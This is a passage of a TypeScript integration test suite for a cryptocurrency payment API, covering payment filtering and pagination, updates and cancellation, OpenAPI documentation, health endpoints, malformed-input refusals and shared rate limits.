    const again = await app.request<CreatedApiKeyBody>('POST', '/api/v1/api-keys', request, headers);
    expect(again.body).toEqual(first.body);
    const rows = JSON.stringify(
      await app.database.dataSource.query('SELECT response FROM idempotency_records'),
    );
    expect(rows).not.toContain(first.body.key);
  });

  it('that is no visible ASCII is refused', async () => {
    await expectRefusal(post(body, { 'idempotency-key': 'x'.repeat(256) }), 400, /255/);
  });
});

describe('GET /payments', () => {
  it('filters by status, chain and reference, and pages through all of them once', async () => {
    const reference = 'paged';
    const made: string[] = [];
    for (let index = 0; index < 5; index += 1) made.push((await app.createPayment({ reference })).id);
    const seen: string[] = [];
    let after = '';
    for (let pages = 0; pages < 3; pages += 1) {
      const { body } = await app.request<{ data: PaymentView[]; next: string | null; has_more: boolean }>(
        'GET',
        `/api/v1/payments?reference=${reference}&status=pending&chain=testchain&limit=2${after}`,
      );
      seen.push(...body.data.map(({ id }) => id));
      after = `&after=${body.next}`;
      expect(body.next === null).toBe(pages === 2);
      expect(body.has_more).toBe(pages < 2);
    }
    expect(seen).toEqual(made.reverse());
    const none = await app.request<{ data: unknown[] }>(
      'GET',
      `/api/v1/payments?reference=${reference}&status=expired`,
    );
    expect(none.body.data).toEqual([]);
  });

  it('says of a chain that is none that it is none, in place of an empty list', async () => {
    for (const list of ['payments', 'deposits']) {
      const answer = await app.request<{ code: string; detail: string }>('GET', `/api/v1/${list}?chain=no`);
      expect(answer).toMatchObject({ status: 400, body: { code: 'unknown_chain' } });
      expect(answer.body.detail).toMatch(/there is no chain "no" here; there are: testchain/);
    }
  });

  const listed = async (query: string, list = 'payments') => {
    const answer = await app.request<{ data: { id: string }[] }>('GET', `/api/v1/${list}?limit=100&${query}`);
    expect(answer.status).toBe(200);
    return answer.body.data.map(({ id }) => id);
  };

  it('filters by several statuses, by address, by transaction, and by time of creation', async () => {
    const [first, second] = [await app.createPayment(), await app.createPayment()];
    expect(await listed(`address=${first.address}`)).toEqual([first.id]);
    const ids = await listed('status=pending,expired&status=failed');
    expect(ids.slice(0, 2)).toEqual([second.id, first.id]);
    expect(await listed('status=expired,failed')).toEqual([]);
    expect(await listed(`created_after=${first.created_at}`)).not.toContain(first.id);
    expect(await listed(`created_after=${first.created_at}`)).toContain(second.id);
    expect(await listed(`created_before=${second.created_at}`)).not.toContain(second.id);
    expect(await listed(`created_before=${second.created_at}`)).toContain(first.id);
    const hash = await chain.pay(first.address, 1_000n);
    await chain.mine(4);
    await app.waitForStatus(first.id, 'confirmed');
    expect(await listed(`tx_hash=${hash.toUpperCase().replace('0X', '0x')}`)).toEqual([first.id]);
    expect(await listed(`tx_hash=${hash}&status=counted`, 'deposits')).toHaveLength(1);
    expect(await listed(`address=${first.address}&status=unassigned,orphaned`, 'deposits')).toEqual([]);
    const since = new Date(Date.now() - 60_000).toISOString();
    for (const list of ['events', 'deliveries', 'refunds', 'sweeps', 'deposits']) {
      expect(await listed('created_after=2999-01-01', list)).toEqual([]);
      expect(await listed('created_before=2001-01-01', list)).toEqual([]);
      await listed(`created_after=${since}&created_before=2999-01-01`, list);
    }
    expect(await listed(`created_after=${since}&event_type=payment.confirmed`, 'events')).not.toEqual([]);
    expect(await listed(`status=created,sent&address=${first.address}&tx_hash=${hash}`, 'refunds')).toEqual(
      [],
    );
  });

  it.each([
    'limit=0',
    'created_after=yesterday',
    'address=0x12',
    'tx_hash=abc',
    'status=pending,paid',
    'limit=101',
    'status=paid',
    'after=x',
    'colour=red',
    'constructor=1',
    '__proto__=1',
    'toString=1',
    'page=2',
  ])('refuses ?%s', async (query) => {
    await expectRefusal(app.request('GET', `/api/v1/payments?${query}`), 400, /./);
  });
});

describe('a payment that is there', () => {
  const change = (id: string, body: object) =>
    app.request<PaymentView>('PATCH', `/api/v1/payments/${id}`, body);
  const cancel = (id: string) => app.request<PaymentView>('POST', `/api/v1/payments/${id}/cancel`);

  it('is changed in reference, metadata and expiry, and tells of it where something differs', async () => {
    const { id, expires_at: before } = await app.createPayment({ metadata: { a: 1 } });
    const later = new Date(Date.parse(before) + 60_000).toISOString();
    const { body } = await change(id, { reference: 'new', metadata: null, expires_at: later });
    expect(body).toMatchObject({ reference: 'new', metadata: null, expires_at: later, version: 2 });
    expect(await change(id, { reference: 'new', expires_at: later })).toMatchObject({ body: { version: 2 } });
    expect(await app.payment(id)).toEqual(body);
    expect(await app.eventsOf(id)).toEqual(['payment.created', 'payment.updated']);
    await expectRefusal(change(id, { expires_at: '2020-01-01T00:00:00Z' }), 400, /must be in the future/);
    await expectRefusal(change(id, { amount: '5' }), 400, /amount: is not known here/);
    const other = '018f0000-0000-7000-8000-000000000000';
    await expectRefusal(change(other, { reference: 'x' }), 404, /there is no payment/);
  });

  it('is cancelled while nothing has arrived; what is mined later is unassigned, and counts when accepted', async () => {
    const { id, address } = await app.createPayment();
    const cancelled = async () =>
      (await metricsOf(app)).get(
        'quittance_payments_cancelled_total{chain="testchain",asset="ETH",token=""}',
      ) as number;
    const before = await cancelled();
    const [first, again] = [await cancel(id), await cancel(id)];
    expect(await cancelled()).toBe(before + 1);
    expect(first.body).toMatchObject({ status: 'cancelled', cancelled_at: expect.any(String) });
    expect(again).toMatchObject({ status: 200, body: first.body });
    expect(await app.eventsOf(id)).toEqual(['payment.created', 'payment.cancelled']);
    await expectRefusal(change(id, { expires_at: '2999-01-01' }), 409, /no longer waits for money/);
    await chain.rpc('evm_increaseTime', [2]);
    await chain.pay(address, 1_000n);
    await chain.mine(4);
    await app.waitForBlock(await chain.height());
    const { body } = await app.request<{ data: { id: string }[] }>(
      'GET',
      `/api/v1/deposits?address=${address}`,
    );
    expect(body.data).toMatchObject([{ status: 'unassigned', reason: 'payment_cancelled' }]);
    expect((await app.payment(id)).status).toBe('cancelled');
    await app.request('POST', `/api/v1/deposits/${body.data[0]?.id}/accept`);
    await chain.mine();
    await app.waitForStatus(id, 'confirmed');
    const problem = await expectRefusal(cancel(id), 409, /refund what arrived/);
    expect(problem.code).toBe('payment_not_cancellable');
  });
});

describe('the rest of the surface', () => {
  it('lists chains with their tokens and states', async () => {
    const { body } = await app.request<{
      data: { name: string; state: string; status: string; tokens: { id: string }[] }[];
    }>('GET', '/api/v1/chains');
    expect(body.data.map(({ name, state }) => ({ name, state }))).toEqual([
      { name: 'testchain', state: 'ready' },
      { name: 'otherchain', state: 'unchecked' },
    ]);
    expect(body.data[0]?.tokens.map(({ id }) => id)).toEqual([tokens.listed]);
  });

  it('answers health and metrics without a key', async () => {
    const anonymous = { authorization: '' };
    expect((await app.request('GET', '/health/live', undefined, anonymous)).body).toEqual({ status: 'ok' });
    expect((await app.request('GET', '/health', undefined, anonymous)).body).toMatchObject({
      status: 'ok',
      parts: { database: 'ok' },
    });
    expect((await app.request('GET', '/health/ready', undefined, anonymous)).status).toBe(200);
    const metrics = await fetch(`${app.url}/metrics`);
    expect(await metrics.text()).toContain('process_cpu_seconds_total');
  });

  it('documents itself', async () => {
    const { body } = await app.request<{ paths: Record<string, unknown> }>(
      'GET',
      '/openapi.json',
      undefined,
      { authorization: '' },
    );
    expect(Object.keys(body.paths)).toEqual(
      expect.arrayContaining([
        '/api/v1/payments',
        '/api/v1/payments/{id}',
        '/api/v1/chains',
        '/api/v1/merchants',
        '/api/v1/api-keys',
      ]),
    );
    const page = await fetch(`${app.url}/docs`);
    const html = await page.text();
    expect(html).toContain('swagger-ui');
    // What the page loads comes from here: an installation may have no way to the outside.
    expect(html).not.toMatch(/(src|href)="(https?:)?\/\//);
  });

  it('describes each operation with its problems, its key and its scope', async () => {
    interface Operation {
      description?: string;
      security: object[];
      parameters: { name: string; required?: boolean }[];
      responses: Record<string, { description?: string; content?: object }>;
    }
    const { body } = await app.request<{ paths: Record<string, Record<string, Operation>> }>(
      'GET',
      '/openapi.json',
    );
    const create = body.paths['/api/v1/payments']?.post;
    expect(create?.description).toContain('`payments:write`');
    expect(create?.security).toEqual([{ bearer: [] }, { 'x-api-key': [] }]);
    expect(create?.parameters).toMatchObject([{ name: 'Idempotency-Key', required: false }]);
    expect(Object.keys(create?.responses ?? {})).toEqual([
      '201',
      '400',
      '401',
      '403',
      '409',
      '413',
      '415',
      '422',
      '429',
      '500',
      '503',
    ]);
    const secured = Object.entries(body.paths).filter(([path]) => path.startsWith('/api/'));
    for (const operation of secured.flatMap(([, methods]) => Object.values(methods))) {
      expect(operation.description).toMatch(/scope `|of whatever scope/);
      expect(operation.responses).toHaveProperty('401');
    }
    expect(body.paths['/.well-known/webhook-keys/{endpoint_id}']?.get?.security).toEqual([]);
  });

  it('is described by OpenAPI 3.1 without an error or a warning, webhooks included', async () => {
    interface Document {
      openapi: string;
      paths: Record<string, Record<string, { operationId: string; responses: Record<string, object> }>>;
      webhooks: Record<string, object>;
      components: { schemas: Record<string, { properties: Record<string, { default?: unknown }> }> };
    }
    const { body } = await app.request<Document>('GET', '/openapi.json');
    const config = await createConfig({ extends: ['recommended'] });
    const found = await lintFromString({ source: JSON.stringify(body), config });
    expect(
      found.map(({ ruleId, message, location }) => ({ ruleId, message, at: location[0]?.pointer })),
    ).toEqual([]);
    const operations = Object.entries(body.paths).flatMap(([, item]) => Object.values(item));
    const ids = operations.map(({ operationId }) => operationId);
    expect(ids).toEqual(expect.arrayContaining(['createPayment', 'listPayments', 'cancelPayment']));
    expect(ids.filter((id) => !/^[a-z][A-Za-z]+$/.test(id))).toEqual([]);
    expect(new Set(ids).size).toBe(ids.length);
    for (const { responses } of operations)
      expect(Object.keys(responses)).toEqual(expect.arrayContaining(['500', '503']));
    expect(Object.keys(body.webhooks)).toEqual(expect.arrayContaining(['payment.confirmed', 'refund.sent']));
    const dtos = Object.entries(body.components.schemas).filter(([name]) => name.endsWith('Dto'));
    const defaults = dtos.flatMap(([, { properties }]) =>
      Object.values(properties).filter((one) => 'default' in one),
    );
    expect(defaults).toEqual([]);
  });

  it('calls a status `status` everywhere: `state` is its older name, and deprecated', async () => {
    const { body } = await app.request('GET', '/openapi.json');
    const older: { deprecated?: boolean; at: string; hasStatus: boolean }[] = [];
    const look = (node: unknown, at: string) => {
      if (typeof node !== 'object' || node === null) return;
      const { state, status } = ((node as Record<string, unknown>).properties ?? {}) as Record<
        string,
        object
      >;
      if (state) older.push({ ...state, at, hasStatus: status !== undefined });
      for (const [key, value] of Object.entries(node)) look(value, `${at}/${key}`);
    };
    look(body, '');
    expect(older.length).toBeGreaterThan(10);
    expect(older.filter(({ deprecated, hasStatus }) => !deprecated || !hasStatus)).toEqual([]);
  });

  it('refers to nothing in its description that is not there', async () => {
    const { body } = await app.request('GET', '/openapi.json');
    const references = JSON.stringify(body).matchAll(/"\$ref":"#\/([^"]+)"/g);
    const missing = [...references]
      .map(([, path]) => path as string)
      .filter(
        (path) =>
          path.split('/').reduce<unknown>((at, key) => (at as Record<string, unknown>)?.[key], body) ===
          undefined,
      );
    expect(missing).toEqual([]);
  });

  it('answers an unknown route with a problem, and every request with its id', async () => {
    await expectRefusal(app.request('GET', '/api/v1/nothing'), 404, /there is no GET \/api\/v1\/nothing/);
    const answer = await app.request('GET', '/health/live', undefined, { 'x-request-id': 'mine-1' });
    expect(answer.headers.get('x-request-id')).toBe('mine-1');
    const forged = await app.request('GET', '/health/live', undefined, { 'x-request-id': 'a b' });
    expect(forged.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('says which methods a URL takes', async () => {
    await expectRefusal(
      app.request('PUT', '/api/v1/payments'),
      405,
      /takes no PUT; it takes GET, HEAD, POST/,
    );
    const { headers } = await app.request('POST', '/api/v1/chains', {});
    expect(headers.get('allow')).toBe('GET, HEAD');
  });

  it.each(['/api/v1/payments/%zz', '/api/v1/payments?reference=%00', '/api/v1/payments?reference=a?%00'])(
    'answers the URL %s, which it cannot read, with a problem',
    async (url) => {
      const problem = await expectRefusal(app.request('GET', url), 400, /the URL cannot be read/);
      expect(problem.type).toContain('malformed_url');
    },
  );

  it('takes a content-type without a body for none', async () => {
    const { id } = await keyWith(['payments:read']);
    const json = { 'content-type': 'application/json' };
    expect((await app.request('DELETE', `/api/v1/api-keys/${id}`, undefined, json)).status).toBe(200);
  });

  it('keeps answers out of caches, and tells browsers not to guess their type', async () => {
    const { headers } = await app.request('GET', '/api/v1/payments');
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('is not served by a process without the api role', async () => {
    const worker = await TestApp.start({
      chains: [chain.config],
      settings: { roles: ['worker'] },
      database: app.database,
    });
    const routes = ['/api/v1/chains', '/api/v1/payments', '/api/v1/merchants'];
    const answers = await Promise.all(routes.map((route) => worker.request('GET', route)));
    expect(answers.map(({ status }) => status)).toEqual([404, 404, 404]);
    expect((await worker.request('GET', '/health/ready')).status).toBe(200);
    await worker.close();
  });
});

describe('limits', () => {
  it('are shared by all API processes, told in headers, and keep no good key from passing', async () => {
    const settings = { roles: ['api' as const], keyRequestsPerMinute: 4 };
    const options = { chains: [chain.config], settings, database: app.database };
    const [one, two] = [await TestApp.start(options), await TestApp.start(options)];
    const asked = await Promise.all(
      Array.from({ length: 8 }, (_, index) =>
        (index % 2 === 0 ? one : two).request('GET', '/api/v1/me', undefined, {
          authorization: `Bearer ${one.key}`,
        }),
      ),
    );
    expect(asked.map(({ status }) => status).sort()).toEqual([200, 200, 200, 200, 429, 429, 429, 429]);
    const refused = asked.find(({ status }) => status === 429);
    expect(refused?.body).toMatchObject({ code: 'rate_limited' });
    expect(Number(refused?.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(refused?.headers.get('ratelimit-policy')).toBe('"key";q=4;w=60');
    expect(refused?.headers.get('ratelimit')).toMatch(/^"key";r=0;t=\d+$/);
    const bad = await Promise.all(
      Array.from({ length: 31 }, (_, index) =>
        one.request<Problem>('GET', '/api/v1/me', undefined, { authorization: `Bearer qk_bad${index}` }),
      ),
    );
    expect(bad.filter(({ status }) => status === 401)).toHaveLength(30);
    expect(bad.find(({ status }) => status === 429)?.body.code).toBe('too_many_bad_keys');
    expect((await two.request('GET', '/api/v1/me')).status).toBe(200);
    expect(
      (await one.request('GET', '/api/v1/me', undefined, { authorization: `Bearer ${two.key}` })).status,
    ).toBe(200);
    await one.close();
    await two.close();
  });
});
